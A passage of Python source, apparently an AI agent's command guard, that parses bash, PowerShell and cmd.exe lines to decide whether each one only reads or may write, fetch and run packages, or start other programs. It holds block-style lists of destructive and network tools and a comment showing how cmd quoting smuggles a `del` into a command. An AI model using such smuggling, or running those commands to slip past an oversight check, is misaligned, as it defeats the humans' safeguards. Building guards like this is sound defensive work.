        v.opaque = True
    elif "find" in words and words & {"-delete", "-exec", "-execdir", "-fprint"}:
        v.opaque = True
    else:
        for m in _an_rx("outredir", r"(?<![<>])>+\|?[ \t]*([^\s&;|)]*)").finditer(text):
            if m.group(1) and m.group(1) not in _DEV_SINKS and m.group(1).lower() != "$null":
                v.opaque = True
                break
    return v


def _analyze_bash(text: str, ctx: _Ctx) -> _V:
    if len(text) > _MAX_COMMAND:
        return _unknown("analysis_limit")
    if _has_bad_char(text):
        return _fallback_intents(_unknown("control_character"),
                                 _an_rx("bad", _BAD_CHARS).sub(" ", text), ctx)
    stripped = text.strip(" \t\n")
    if not stripped:
        return _unknown("shell_syntax_unproven")
    try:
        v = _Flow(_bash_items(stripped, ctx, False), ctx, stripped).run()
        if "$'" in stripped or "&>" in stripped:
            # dash reads these differently: judge its reading too.
            dash_ctx = _Ctx(ctx.depth, ctx.shell)
            try:
                other = _Flow(_bash_items(stripped, dash_ctx, True), dash_ctx, stripped).run()
            except _Give as g:
                other = _unread(g, stripped, _WRITERS)
            if _RANK[other.mut] > _RANK[v.mut]:
                # What decides is dash's reading: name the piece it reads otherwise.
                ansi = stripped.find("$'")
                piece = stripped[ansi:stripped.find("'", ansi + 2) + 1] if ansi >= 0 else "&>"
                other.why = ("sh", piece, "ansi" if ansi >= 0 else "amp")
                if ctx.seen is not None:
                    ctx.seen.append((None, other))
            places = _merge(_run_places(v), _run_places(other))
            v.join(other)
            v.cd = ("places", places) if places != [_START] else None
        if v.mut != "read" and not v.hash and ("$" in stripped or "`" in stripped):
            # `h=sha256sum; $h f`, `$(which md5sum) f`: the program is named, then run.
            v.hash = _an_rx("hash-named-prog", r"(?:=['\"]?|(?:which|command\s+-v|type\s+-p"
                                               r"|whereis)\s+)(?:" + _HASH_PROG_WORD
                            + r")\b", 2).search(stripped) is not None
        return v
    except _Give as g:
        return _fallback_intents(_unread(g, stripped, _WRITERS), stripped, ctx)
    except RecursionError:
        return _unknown("analysis_limit")


def _bash_items(text: str, ctx: _Ctx, dash: bool) -> List[Any]:
    """The parsed line; a refusal is noted where the parser stopped (for `explain`).
    The values the line gives its variables go to ctx (see _line_vars)."""
    parser = _Bash(text, ctx.depth, dash)
    try:
        items = parser.parse()
    except _Give as g:
        if ctx.seen is not None:
            ctx.seen.append((_Spot(text, parser.i), g.verdict()))
        raise
    _line_vars(items, parser.loops, ctx)
    return items


# ---- PowerShell: a conservative subset --------------------------------------

_PS_SPACE = " \t\u00a0\u0085\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008" \
            "\u2009\u200a\u2028\u2029\u202f\u205f\u3000\ufeff\x0b\x0c"
_PS_SQUOTES = "'\u2018\u2019\u201a\u201b"
_PS_DQUOTES = '"\u201c\u201d\u201e'
_PS_REFUSE = "$`@{}()%?#,[]*\\<"

_PS_READ_CMDLETS = frozenset((
    "get-content", "get-childitem", "get-item", "test-path", "resolve-path", "select-string",
    "select-object", "measure-object", "compare-object", "where-object", "sort-object",
    "split-path", "join-path", "get-location", "out-string", "write-output", "write-host",
    "format-table", "format-list", "format-wide", "format-custom", "get-filehash",
    "get-command", "get-help", "get-date", "get-process", "get-itemproperty", "out-host",
    "convertfrom-json", "convertto-json", "get-unique", "group-object", "get-member",
    "gc", "gci", "gi", "sls", "gl", "ft", "fl", "gps", "gcm",
))
_PS_WRITE_CMDLETS = frozenset((
    "remove-item", "move-item", "copy-item", "set-content", "add-content", "out-file",
    "new-item", "rename-item", "clear-content", "tee-object", "set-item", "clear-item",
    "remove-itemproperty", "set-itemproperty", "new-itemproperty", "export-csv",
    "export-clixml", "set-location", "invoke-webrequest", "start-bitstransfer", "expand-archive",
    "compress-archive", "ri", "rm", "rmdir", "del", "erase", "rd", "mi", "move", "mv", "cpi",
    "copy", "cp", "ni", "mkdir", "md", "sc", "ac", "tee", "rni", "ren", "clc", "si",
    "stop-process", "kill", "start-process", "set-acl", "install-module", "install-package",
))


def _ps_words(text: str, redirects: Optional[List[Tuple[int, str, str]]] = None) -> List[Any]:
    """Split a PowerShell line into commands of (word, quoted) pairs; refuse the rest.

    An output redirection does not stop the reading: its target goes to
    `redirects` and the command before it is still classified, so that
    `sha256sum a.js > a.sha` keeps its hash intent.  A target that is not a
    plain word (a variable, a subexpression) still makes the line a write.
    """
    cmds: List[List[Tuple[str, bool]]] = []
    cur: List[Tuple[str, bool]] = []
    i, n = 0, len(text)
    need = False
    target_next = False
    while i < n:
        c = text[i]
        if c in _PS_SPACE:
            i += 1
            continue
        if c in "\r\n;":
            if cur:
                cmds.append(cur)
                cur = []
            elif c == ";" and not cmds:
                raise _Give("shell_syntax_unproven")
            i += 1
            continue
        if c in "|&":
            op = text[i:i + 2] if text[i:i + 2] in ("||", "&&") else c
            if op == "&" or not cur:
                raise _Give("shell_syntax_unproven", why=("pschar", op))
            cmds.append(cur)
            cur = []
            need = True
            i += len(op)
            continue
        if c == ">" or (c.isdigit() and text[i + 1:i + 2] == ">"):
            j = i + 1 if c == ">" else i + 2
            if text.startswith(">&1", j - 1) or text.startswith(">&2", j - 1):
                i = j + 2
                continue
            if text.startswith(">>", j - 1):
                j += 1
            while j < n and text[j] in _PS_SPACE:
                j += 1
            k = j
            while k < n and text[k] not in _PS_SPACE and text[k] not in ";|\r\n":
                k += 1
            target = text[j:k]
            if target.lower() in ("$null", "nul"):
                i = k
                continue
            if redirects is None or j >= n or text[j] in ";|&>" or any(
                    ch in _PS_REFUSE for ch in target):
                raise _Give("shell_redirection", "write", ("redir", text[i:j].strip(), target))
            redirects.append((len(cmds), text[i:j].strip(), ""))   # the target: next word
            target_next = True
            i = j
            continue
        word: List[str] = []
        quoted = False
        while i < n and text[i] not in _PS_SPACE and text[i] not in "\r\n;|&>":
            c = text[i]
            if c in _PS_SQUOTES:
                i += 1
                while True:
                    if i >= n:
                        raise _Give("shell_syntax_unproven")
                    if text[i] in _PS_SQUOTES:
                        if i + 1 < n and text[i + 1] in _PS_SQUOTES:
                            word.append("'")
                            i += 2
                            continue
                        i += 1
                        break
                    word.append(text[i])
                    i += 1
                quoted = True
                continue
            if c in _PS_DQUOTES:
                i += 1
                while True:
                    if i >= n:
                        raise _Give("shell_syntax_unproven")
                    ch = text[i]
                    if ch in "$`":
                        raise _Give("shell_syntax_unproven")
                    if ch in _PS_DQUOTES:
                        if i + 1 < n and text[i + 1] in _PS_DQUOTES:
                            word.append('"')
                            i += 2
                            continue
                        i += 1
                        break
                    word.append(ch)
                    i += 1
                quoted = True
                continue
            if c in _PS_REFUSE and not (c == "\\" and word):
                raise _Give("shell_syntax_unproven", why=("pschar", c))
            if c in "\u2013\u2014\u2015" or not c.isascii():
                raise _Give("shell_syntax_unproven")
            word.append(c)
            i += 1
        if target_next:
            at, op, _ = redirects[-1]   # type: ignore[index]
            redirects[-1] = (at, op, "".join(word))   # type: ignore[index]
            target_next = False
            continue
        cur.append(("".join(word), quoted))
        need = False
    if need or target_next:
        raise _Give("shell_syntax_unproven" if need else "shell_redirection",
                    "unknown" if need else "write")
    if cur:
        cmds.append(cur)
    if not cmds:
        raise _Give("shell_syntax_unproven")
    return cmds


def _analyze_powershell(text: str, ctx: _Ctx) -> _V:
    if len(text) > _MAX_COMMAND:
        return _unknown("analysis_limit")
    if _an_rx("psbad", "[\x00-\x08\x0e-\x1f\x7f\u200b-\u200f\u202a-\u202e\u2066-\u2069\u061c]"
           ).search(text):
        return _unknown("control_character")
    redirects: List[Tuple[int, str, str]] = []
    try:
        cmds = _ps_words(text.strip(_PS_SPACE + "\r\n"), redirects)
    except _Give as g:
        if ctx.seen is not None:
            ctx.seen.append((None, g.verdict()))
        return _fallback_intents(_unread(g, text, _PS_WRITE_CMDLETS, "$`@({%*?["), text, ctx,
                                 powershell=True)
    total = _V()
    folders: List[Optional[str]] = [""]
    for k, cmd in enumerate(cmds):
        v = _ps_command(cmd, ctx)
        mine = [(op, target) for at, op, target in redirects if at == k]
        if mine:
            # The command's output goes to a file: a write, and what a command
            # prints into a manifest is not known, so a dependency is assumed.
            out = _write([t for _, t in mine], "shell_redirection").blame("redir", *mine[0])
            out.dep = any(manifest_kind(t) is not None for _, t in mine)
            v.join(out)
        _place_targets(v, folders)
        if ctx.seen is not None:
            ctx.seen.append((_Spot(words=[w for w, _ in cmd]), v))
        total.join(v)
        prog = cmd[0][0].lower()
        if prog in _PS_LOCATION:
            paths = _ps_location_paths(cmd[1:])
            dest = None if _PS_LOCATION[prog] or len(paths) > 1 or paths[:1] in (["-"], ["+"]) \
                else paths[0] if paths else "~"
            # A failed Set-Location is an error the next command runs after.
            folders = _folders_after(folders, dest)
    return total


def _ps_location_paths(args: List[Tuple[str, bool]]) -> List[str]:
    """The paths a Set-Location or Push-Location names (-Path, -LiteralPath or positional)."""
    paths: List[str] = []
    i = 0
    while i < len(args):
        text, quoted = args[i]
        low = text.lower()
        i += 1
        if quoted or not low.startswith("-") or low in ("-", "+"):
            paths.append(text)
        elif low.split(":", 1)[0] in ("-path", "-literalpath", "-lp", "-stackname"):
            if ":" in low:
                value = text.split(":", 1)[1]
            elif i < len(args):
                value = args[i][0]
                i += 1
            else:
                continue
            if low.startswith("-stackname"):
                paths.append("+")       # another named stack: where it leads is unknown
            else:
                paths.append(value)
    return paths


def _folders_after(folders: List[Optional[str]], dest: Optional[str]) -> List[Optional[str]]:
    """A location change that may fail: every folder before it, and where it leads."""
    out = list(folders)
    for folder in folders:
        for new in _cd_join(folder, dest):
            if new not in out:
                out.append(new)
    return out if len(out) <= _MAX_PLACES else [None]


# Location changers of PowerShell and cmd.exe: True when where they go
# cannot be read from the line (a stack entry).
_PS_LOCATION = {"cd": False, "chdir": False, "sl": False, "set-location": False,
                "pushd": False, "push-location": False, "popd": True, "pop-location": True}


_PS_PATH_PARAMS = ("-path", "-literalpath", "-filepath", "-destination", "-target", "-lp")


_PS_COPIERS = frozenset(("copy-item", "move-item", "cpi", "mi", "copy", "cp", "move", "mv"))


def _ps_targets(args: List[Tuple[str, bool]], copier: bool = False) -> List[str]:
    """Paths named by a writing cmdlet: its path parameters, else its first positional.

    Copy/move cmdlets write their destination (-Destination or the second
    positional) and, for moves, also remove the source: both are listed.
    """
    found: List[str] = []
    positional: List[str] = []
    i = 0
    while i < len(args):
        text, quoted = args[i]
        low = text.lower()
        if not quoted and low.startswith("-"):
            name, colon, value = low.partition(":")
            if name in _PS_PATH_PARAMS and (not copier or name in ("-destination", "-target")):
                if colon:
                    found.append(text.split(":", 1)[1])
                elif i + 1 < len(args):
                    found.append(args[i + 1][0])
                    i += 1
            elif not colon and name not in ("-force", "-recurse", "-whatif", "-confirm",
                                            "-append", "-nonewline", "-passthru"):
                i += 1   # some other parameter and its value
            i += 1
            continue
        positional.append(text)
        i += 1
    if copier:
        return found or positional[1:2]
    return found or positional[:1]


# Common parameters that store output in a session variable, and their aliases.
_PS_VARIABLE_PARAMS = ("-outvariable", "-pipelinevariable", "-errorvariable",
                       "-warningvariable", "-informationvariable")
_PS_VARIABLE_ALIASES = frozenset(("-ov", "-pv", "-ev", "-wv", "-iv"))


def _ps_sets_variable(arg: str) -> bool:
    """-ov, -OutV, -pi...: PowerShell binds any unique prefix of a parameter name."""
    name = arg.lower().split(":", 1)[0]
    if name in _PS_VARIABLE_ALIASES:
        return True
    return len(name) >= 3 and any(p.startswith(name) for p in _PS_VARIABLE_PARAMS)


# Cmdlets that install modules, scripts or packages.
_PS_INSTALL_CMDLETS = frozenset((
    "install-module", "install-package", "install-script", "install-psresource",
    "update-module", "update-psresource", "update-script", "save-module", "save-package",
    "save-psresource", "register-psrepository", "register-packagesource",
    "register-psresourcerepository"))
# Cmdlets that only remove or empty a file: a manifest they touch gains nothing.
_PS_REMOVERS = frozenset(("remove-item", "ri", "rm", "rmdir", "del", "erase", "rd",
                          "clear-content", "clc"))


def _ps_command(cmd: List[Tuple[str, bool]], ctx: _Ctx) -> _V:
    prog = cmd[0][0].lower()
    if prog.endswith(".exe"):
        prog = prog[:-4]
    args = cmd[1:]
    if prog in _PS_INSTALL_CMDLETS:
        return _V("write", dep=True)
    if prog in _PS_WRITE_CMDLETS:
        v = _write(_ps_targets(args, prog in _PS_COPIERS))
        if prog not in _PS_REMOVERS:
            # Content written into a manifest is not read here: assume it adds.
            v.dep = any(manifest_kind(t) is not None for t in v.targets) or (
                prog in _PS_COPIERS and any(manifest_kind(a) is not None for a, _ in args))
        return v
    if prog in _PS_READ_CMDLETS:
        if any(a.lower().startswith("-outfile") or a.lower().startswith("-outvariable")
               for a, q in args if not q):
            return _write()
        if any(_ps_sets_variable(a) for a, q in args if not q):
            return _unknown("state_change")
        return _V(hash_=prog == "get-filehash")
    if "-" in prog and prog.split("-", 1)[0] in ("get", "test", "select", "measure", "format",
                                                 "resolve", "compare", "convertto",
                                                 "convertfrom"):
        return _unknown()
    # A native program: arguments pass through the native command line.
    if any('"' in a or (a.endswith("\\") and any(ch in a for ch in _PS_SPACE)) for a, q in args):
        return _unknown("native_quotes_unproven")
    words = [_W(a, lead=not a.startswith("-"), quoted=q) for a, q in cmd]
    words[0] = _lit(prog)
    has_empty = any(w.text == "" for w in words[1:])
    if has_empty and ctx.depth >= 4:
        # Each level would be judged twice; deep nesting with empty arguments is refused.
        return _unknown("native_empty_arguments")
    full = _classify_argv(words, ctx)
    if has_empty:
        dropped = _classify_argv([w for w in words if w.text != "" or w is words[0]], ctx)
        if dropped.mut != full.mut:
            merged = _V(full.mut, full.reason).join(dropped)
            if merged.mut != "write":
                merged.mut, merged.reason = "unknown", "native_empty_arguments"
            return merged
    return full


# ---- cmd.exe: only enough to refuse what cmd would reinterpret --------------

def _analyze_cmd(text: str, ctx: _Ctx) -> _V:
    special = next((ch for ch in text if ch in "^%!()"), None)
    if special is not None:
        return _fallback_intents(_unread(_Give("shell_syntax_unproven", why=("cmdchar", special)),
                                         text, _WRITERS, "%!"), text, ctx)
    if text.lstrip(" \t").startswith('"'):
        # `cmd /c` drops a leading quote and the last quote of the line (cmd /?),
        # re-pairing the rest: `"dir" "& del x &" "y"` runs del.
        return _fallback_intents(_unknown("shell_syntax_unproven", "cmdquote"), text, ctx)
    total = _V()
    folders: List[Optional[str]] = [""]
    i, n = 0, len(text)
    cur: List[_W] = []
    while i <= n:
        c = text[i] if i < n else "\n"
        if c in " \t":
            i += 1
            continue
        if c in "\r\n&|":
            if cur:
                v = _classify_argv(cur, ctx)
                _place_targets(v, folders)
                if ctx.seen is not None:
                    ctx.seen.append((_Spot(words=[w.text for w in cur]), v))
                total.join(v)
                name = cur[0].text.lower()
                if name in _PS_LOCATION:
                    # `cd` alone prints the folder; `cd /d x` also changes the drive.
                    ops = [w.text for w in cur[1:] if w.text.lower() != "/d"]
                    if ops or name in ("popd", "pushd"):
                        dest = None if _PS_LOCATION[name] or len(ops) != 1 else ops[0]
                        folders = _folders_after(folders, dest)
                cur = []
            i += 1
            continue
        if c in "<>":
            if text.startswith("2>&1", i - 1) or text.startswith(">&", i):
                i += 2
                continue
            rest = text[i + 1:].lstrip(" >").split(" ", 1)[0]
            if rest.lower() == "nul" or c == "<":
                i += 1
                continue
            # Record the target and read on: the command before it still counts.
            j = i + 1
            while j < n and text[j] in " >":
                j += 1
            k = j
            while k < n and text[k] not in " \t\r\n&|<>":
                k += 1
            target = text[j:k].strip('"')
            redirect = _write([target] if target else [], "shell_redirection").blame(
                "redir", c, rest)
            redirect.dep = manifest_kind(target) is not None
            total.join(redirect)
            i = k
            continue
        word = []
        while i < n and text[i] not in " \t\r\n&|<>":
            if text[i] == '"':
                end = text.find('"', i + 1)
                if end < 0:
                    return _unknown("shell_syntax_unproven")
                if text[i + 1:end].endswith("\\"):
                    return _unknown("native_quotes_unproven")
                word.append(text[i + 1:end])
                i = end + 1
                continue
            word.append(text[i])
            i += 1
        t = "".join(word)
        cur.append(_lit(t.lower()) if not cur else _lit(t))
    return total


# ---- analyze_shell ----------------------------------------------------------
# The entry point: the reader for the shell (when the shell is unknown, bash,
# PowerShell and cmd must all agree), then the internal verdict as a
# ShellAnalysis.  A bug inside never lets a command through as read.

def _analyze_any(command: str, shell: str, seen: Optional[list] = None) -> _V:
    ctx = _Ctx(0, shell, seen)
    if shell == "powershell":
        return _analyze_powershell(command, ctx)
    if shell == "unknown":
        # Windows: the interpreter is not known, so every candidate must agree.
        v = _analyze_bash(command, ctx)
        v.join(_analyze_powershell(command, ctx))
        return v.join(_analyze_cmd(command, ctx))
    return _analyze_bash(command, ctx)


# Reasons that mean the line was not read word by word.
_UNREAD_LINES = frozenset(("shell_syntax_unproven", "analysis_limit", "control_character"))


def analyze_shell(command: Any, shell: str = "bash") -> ShellAnalysis:
    """Classify one command line; shell is "bash", "powershell" or "unknown"."""
    if not isinstance(command, str) or not command.strip():
        return ShellAnalysis("unknown", "shell_syntax_unproven")
    if len(command) > _MAX_COMMAND:
        return ShellAnalysis("unknown", "analysis_limit")
    try:
        v = _analyze_any(command, shell)
    except Exception:   # noqa: BLE001 - a bug here must never let a command through as read
        return ShellAnalysis("unknown", "shell_syntax_unproven")
    reason = None if v.mut == "read" else v.reason
    if v.mut == "unknown" and reason is None:
        reason = "shell_command_unproven"
    if v.mut != "read" and v.agent is None and reason in _UNREAD_LINES:
        # The line could not be read word by word; its text still names any
        # agent CLI it would start.
        tokens = _agent_tokens(command)
        for j, token in enumerate(tokens):
            cli = _agent_cli(token)
            found = _agent_call(cli, tokens[j + 1:]) if cli is not None else None
            if found is not None:
                v.agent, v.resume = found
                break
    seen = [t for t in dict.fromkeys(v.targets) if t] if v.targets else []
    patterns = [p for p in dict.fromkeys(v.patterns) if p] if v.patterns else []
    # A verdict with pending words never reached _Flow (PowerShell, cmd):
    # what they name is not established.
    return ShellAnalysis(v.mut, reason, v.hash, v.dep, seen, v.opaque or bool(v.pending),
                         v.agent, v.resume, patterns)


# ---- culprits ---------------------------------------------------------------
# A denial names the smallest part of the command that decided it, so that
# the next call can leave out exactly that part.  None of this runs unless a
# call is denied or noted: the analysis then runs once more with a list that
# collects every judged piece (_Ctx.seen), and the text is made from the
# deciding piece and its `why`.  Each quoted fragment is checked to be part
# of the command as written; a fragment that is not is left out.

_CULPRIT_WIDTH = 60


class _Spot:
    """A judged piece that is no parsed bash command: a parse failure at
    src[pos], or a PowerShell or cmd.exe command by its words."""

    __slots__ = ("src", "pos", "words")

    def __init__(self, src: str = "", pos: int = 0, words: Optional[List[str]] = None) -> None:
        self.src = src
        self.pos = pos
        self.words = words or []


# Decision code -> which judged piece decided it (paths: the outside or
# protected paths the decision named).
_CULPRIT_PICKS: Dict[str, Callable[[_V, Sequence[str]], bool]] = {
    "MODE_FORBIDS_MUTATION": lambda v, paths: v.mut == "write",
    "MUTABILITY_UNPROVEN": lambda v, paths: v.mut == "unknown",
    "WRITE_PATH_UNPROVEN": lambda v, paths: v.mut != "read" and (
        v.opaque or not v.targets or any(t in paths for t in v.targets)),
    "PATH_OUTSIDE_CONTRACT": lambda v, paths: any(t in paths for t in v.targets),
    "GUARD_SELF_PROTECTION": lambda v, paths: any(t in paths for t in v.targets),
    "HASH_NOT_AUTHORIZED": lambda v, paths: v.hash,
    "DEPENDENCY_NOT_AUTHORIZED": lambda v, paths: v.dep,
}

# What a writing program does, after its name: (verb, object when no target is known).
_WRITER_WHY: Dict[str, Tuple[str, str]] = {
    "rm": ("removes", "files"), "rmdir": ("removes", "folders"), "unlink": ("removes", "a file"),
    "shred": ("destroys", "files"), "touch": ("creates or changes", "files"),
    "mkdir": ("creates", "folders"), "truncate": ("cuts", "files"),
    "chmod": ("changes permissions of", "files"), "chown": ("changes the owner of", "files"),
    "chgrp": ("changes the group of", "files"), "ln": ("creates", "a link"),
    "cp": ("writes", "a copy"), "mv": ("moves files to", "a new place"),
    "install": ("writes", "files"), "dd": ("writes", "data"), "mktemp": ("creates", "a file"),
    "split": ("writes", "pieces into files"), "csplit": ("writes", "pieces into files"),
    "patch": ("edits", "files"), "rsync": ("copies files to", "a destination"),
    "scp": ("copies files to", "a destination"), "zip": ("writes", "an archive"),
    "7z": ("writes", "an archive"), "unzip": ("unpacks", "files"), "tar": ("writes", "files"),
    "gzip": ("compresses", "files in place"), "bzip2": ("compresses", "files in place"),
    "xz": ("compresses", "files in place"), "zstd": ("compresses", "files"),
    "gunzip": ("unpacks", "files in place"), "bunzip2": ("unpacks", "files in place"),
    "unxz": ("unpacks", "files in place"), "wget": ("downloads into", "files"),
    "kill": ("stops", "processes"), "pkill": ("stops", "processes"),
    "killall": ("stops", "processes"), "reboot": ("restarts", "the machine"),
    "shutdown": ("stops", "the machine"), "apply_patch": ("edits", "files"),
    "tee": ("writes", "files"), "mkfifo": ("creates", "a pipe file"),
    "mknod": ("creates", "a device file"),
}

# Programs and "program subcommand" pairs that are not proven read-only, and why.
_PROGRAM_WHY: Dict[str, str] = {
    "make": "runs the project's build", "cmake": "configures or runs a build",
    "ninja": "runs a build", "bazel": "runs a build", "gradle": "runs a build",
    "mvn": "runs a build", "sbt": "runs a build", "ant": "runs a build",
    "just": "runs project recipes", "task": "runs project tasks",
    "pytest": "runs the tests, which can do anything", "tox": "runs the tests",
    "nox": "runs the tests", "jest": "runs the tests", "vitest": "runs the tests",
    "rspec": "runs the tests", "phpunit": "runs the tests", "ctest": "runs the tests",
    "npm test": "runs the package's test script", "npm run": "runs a package script",
    "npm start": "runs the package's start script", "yarn run": "runs a package script",
    "pnpm run": "runs a package script", "npm exec": "fetches and runs a package",
    "npx": "fetches and runs a package", "pnpm dlx": "fetches and runs a package",
    "uvx": "fetches and runs a package", "bunx": "fetches and runs a package",
    "cargo build": "builds the project", "cargo run": "builds and runs the project",
    "cargo test": "builds and runs the tests", "cargo check": "builds the project",
    "cargo clippy": "builds the project", "go build": "builds the project",
    "go run": "builds and runs code", "go test": "builds and runs the tests",
    "go generate": "runs generators", "go vet": "builds the project",
    "dotnet build": "builds the project", "dotnet test": "builds and runs the tests",
    "dotnet run": "builds and runs the project",
    "python": "runs code", "python3": "runs code", "node": "runs code", "deno": "runs code",
    "bun": "runs code", "ruby": "runs code", "perl": "runs code", "php": "runs code",
    "bash": "runs a script", "sh": "runs a script", "zsh": "runs a script",
    "docker": "controls containers", "kubectl": "controls a cluster",
    "terraform": "changes infrastructure", "helm": "changes a cluster",
    "ssh": "runs commands on another machine", "psql": "runs database commands",
    "sqlite3": "can change a database", "mysql": "runs database commands",
    "less": "is a pager that can run commands", "more": "is a pager that can run commands",
    "most": "is a pager that can run commands",
    "man": "runs a pager", "vi": "is an editor", "vim": "is an editor", "nvim": "is an editor",
    "nano": "is an editor", "emacs": "is an editor", "code": "opens an editor",
    "open": "opens another program", "xdg-open": "opens another program",
    "crontab": "changes scheduled jobs", "systemctl": "controls services",
    "source": "runs a script in this shell", ".": "runs a script in this shell",
    "export": "changes the shell's environment", "alias": "changes the shell",
    "unset": "changes the shell's state", "trap": "changes the shell",
    "nohup": "starts a program that keeps running", "sudo": "runs as another user",
    "doas": "runs as another user",
    "black": "rewrites files", "prettier": "can rewrite files", "eslint": "can rewrite files",
    "ruff": "can rewrite files", "mypy": "writes a cache", "tsc": "writes compiled files",
    "gcc": "writes compiled files", "cc": "writes compiled files", "clang": "writes compiled files",
    "rustc": "writes compiled files", "javac": "writes compiled files",
}

# Programs whose handler judges package commands.
_PACKAGE_PROGRAMS = frozenset((
    "npm", "pnpm", "yarn", "bun", "npx", "bunx", "pnpx", "pip", "pip3", "uv", "uvx", "poetry",
    "pipenv", "pipx", "conda", "mamba", "micromamba", "cargo", "go", "gem", "bundle", "bundler",
    "composer", "dotnet", "apt", "apt-get", "brew", "dnf", "yum", "apk", "pacman", "zypper",
    "port", "choco", "winget", "scoop"))

# git options before the subcommand that are not reads, and why.
_GIT_GLOBAL_WHY: Dict[str, str] = {
    "-c": "sets git configuration, which can name programs to run",
    "--config-env": "sets git configuration, which can name programs to run",
    "--git-dir": "points git at another repository and its configuration",
    "--work-tree": "points git at another work tree",
    "--exec-path": "makes git run its helpers from another folder",
    "-p": "runs a pager", "--paginate": "runs a pager",
    "--namespace": "changes which refs git reads",
}

# Reason code -> what the deciding piece does, when nothing more precise is known.
# What zsh (the login shell on macOS) does with a form bash leaves alone.
_ZSH_WHY: Dict[str, str] = {
    "nullcmd": "is a redirection with no command: zsh runs $NULLCMD or $READNULLCMD for it",
    "rerun": "repeats the previous command in zsh",
    # sh (dash) has no $'...' and no &>:
    "ansi": "is a `$` and a quoted string to sh (dash), not one decoded word",
    "amp": "sends the command to the background in sh (dash), then redirects apart",
}

_REASON_WHY: Dict[str, str] = {
    "shell_syntax_unproven": "could not be read",
    "shell_command_unproven": "is not proven read-only",
    "shell_execution_option": "can run another program",
    "option_value_missing": "lacks an option's value",
    "git_arguments_unproven": "is not a proven read-only git form",
    "native_quotes_unproven": "has quotes a Windows program may split differently",
    "native_empty_arguments": "has empty arguments a Windows program may drop",
    "shell_redirection": "writes a file",
    "git_output_file": "makes git write a file",
    "control_character": "holds a control character",
    "state_change": "changes the state of the shell or the system",
    "analysis_limit": "is too long or too deeply nested to read",
    "interpreter_code": "runs code that is not proven read-only",
}

# git subcommands that change something, and the read that shows the same.
_GIT_INSTEAD: Dict[str, str] = {
    "checkout": "`git show REV:PATH` prints a file as of REV",
    "restore": "`git diff` shows what a restore would undo",
    "reset": "`git diff REV` shows what a reset would change",
    "clean": "`git clean -n` lists what would be removed",
    "stash": "`git stash list` and `git stash show -p` read the stash",
    "fetch": "`git log origin/BRANCH` reads what was fetched before",
    "pull": "`git log origin/BRANCH` reads what was fetched before",
    "rm": "`git ls-files` lists the tracked files",
    "add": "`git diff` shows what would be staged",
}

# Programs whose output is the point of a redirection: no Instead for them.
_CONTENT_WRITERS = frozenset(("echo", "printf", "cat", "tee", "exec", "true", ":", "yes"))

_LEAD_RESERVED = ("!", "{", "if", "then", "elif", "else", "do", "while", "until", "time")


def _invisible(text: str) -> bool:
    return any(ch < " " and ch not in "\t" or "\x7f" <= ch <= "\x9f" for ch in text) \
        or _has_bad_char(text)


def _quote(text: Optional[str], command: str) -> str:
    """`text` in backticks when the command holds it as written, else ""."""
    if not text or "\0" in text or "\n" in text or text not in command or _invisible(text):
        return ""
    if len(text) > _CULPRIT_WIDTH:
        return "`%s`…" % text[:_CULPRIT_WIDTH - 1].rstrip()
    return "`%s`" % text


def _balanced_end(src: str, start: int) -> int:
    """End of a `$(`, `${`, `<(` or backquote piece that starts at `start`."""
    if src.startswith("`", start):
        end = src.find("`", start + 1)
        return len(src) if end < 0 else end + 1
    depth = 0
    for j in range(start, len(src)):
        ch = src[j]
        if ch in "({":
            depth += 1
        elif ch in ")}":
            depth -= 1
            if depth <= 0:
                return j + 1
    return len(src)


def _segment(where: Any, command: str) -> str:
    """The source text of a judged piece, without the reserved word before it."""
    if isinstance(where, _Cmd):
        text = where.src[where.start:where.end].strip(" \t\n")
        changed = True
        while changed:
            changed = False
            for word in _LEAD_RESERVED:
                if text.startswith(word) and text[len(word):len(word) + 1] in (" ", "\t", "\n"):
                    text = text[len(word):].lstrip(" \t\n")
                    changed = True
        return text.split("\n", 1)[0] if "\n" in text else text
    if isinstance(where, _Spot) and where.words:
        joined = " ".join(where.words)
        return joined if joined in command else where.words[0]
    if isinstance(where, _Spot):
        src, pos = where.src, min(where.pos, len(where.src))
        start = pos
        while start > 0 and src[start - 1] not in " \t\n;|&":
            start -= 1
        end = pos
        while end < len(src) and src[end] not in " \t\n;|&":
            end += 1
        for k in range(start, end):
            if src.startswith(("$(", "${", "<(", ">(", "`"), k):
                end = max(end, _balanced_end(src, k))
                break
        return (src[start:end] or src[max(0, pos - 20):pos + 20].strip()).split("\n", 1)[0]
    return ""


def _words_of(where: Any) -> List[str]:
    if isinstance(where, _Cmd):
        return [w.text for w in where.words]
    if isinstance(where, _Spot):
        return list(where.words)
    return []


def _subcommand(words: List[str]) -> str:
    """The first operand after the program and its leading options (`git -C x log` -> log)."""
    skip = False
    for word in words[1:]:
        if skip:
            skip = False
            continue
        if word in ("-C", "-c", "--prefix"):
            skip = True   # an option whose value is the next word
            continue
        if not word.startswith("-"):
            return word
    return ""


def _program_phrase(words: List[str], command: str) -> Tuple[str, str]:
    """(`prog sub` or `prog` as written, the table key that matched or "")."""
    if not words:
        return "", ""
    prog = words[0]
    name = _program_name(_lit(prog)) or prog
    sub = _subcommand(words)
    shown = (_quote(prog + " " + sub, command) if sub else "") or _quote(prog, command)
    if sub and (name + " " + sub) in _PROGRAM_WHY:
        return shown, name + " " + sub
    if name in _PROGRAM_WHY:
        return _quote(prog, command), name
    return shown, ""


def _explain_read(cmd: _Cmd) -> bool:
    """Whether a trimmed copy of a command is a read (for the Instead line)."""
    try:
        return _classify_cmd(cmd, _Ctx(0, "bash")).mut == "read"
    except (_Give, RecursionError):
        return False


def _without(where: Any, option: str) -> str:
    """"the same command without `-x` only reads", when that is proven."""
    if not option or not isinstance(where, _Cmd) or not where.words:
        return ""
    words = where.words
    at = next((k for k, w in enumerate(words) if w.text == option), -1)
    if at <= 0:
        return ""
    for drop in (2, 1) if "=" not in option else (1,):  # with its value first
        kept = words[:at] + words[at + drop:]
        if len(kept) < 1 or at + drop > len(words):
            continue
        bare = _Cmd(where.src)
        bare.words, bare.assigns, bare.redirs = kept, where.assigns, where.redirs
        gone = _quote(" ".join(w.text for w in words[at:at + drop]), where.src)
        if gone and _explain_read(bare):
            return "the same command without %s only reads" % gone
    return ""


def _redirect_shown(op: str, dest: str, where: Any, command: str) -> str:
    """`> out.txt` as written in the command, or as near as can be quoted."""
    op = op.replace("\x01", "")
    found = _quote(op + " " + dest, command) or _quote(op + dest, command)
    if found or not isinstance(where, _Cmd):
        return found or _quote(op, command)
    segment = where.src[where.start:where.end]
    at = segment.find(op)
